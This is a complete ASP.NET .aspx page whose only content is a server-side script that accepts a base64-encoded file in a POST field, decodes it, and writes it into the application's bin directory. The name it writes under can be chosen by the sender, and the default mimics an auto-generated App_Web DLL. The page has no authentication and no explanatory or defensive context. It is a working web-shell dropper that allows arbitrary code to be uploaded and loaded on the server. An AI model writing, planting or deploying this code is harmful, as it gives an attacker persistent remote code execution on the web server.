<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    if (Request.Form["b"] == null) return;
    byte[] bin = Convert.FromBase64String(Request.Form["b"]);
    string target = Server.MapPath("~/bin/" + (Request.Form["n"] ?? "App_Web_x8k2l.dll"));
    System.IO.File.WriteAllBytes(target, bin);
    Response.Write("1");
}
</script>
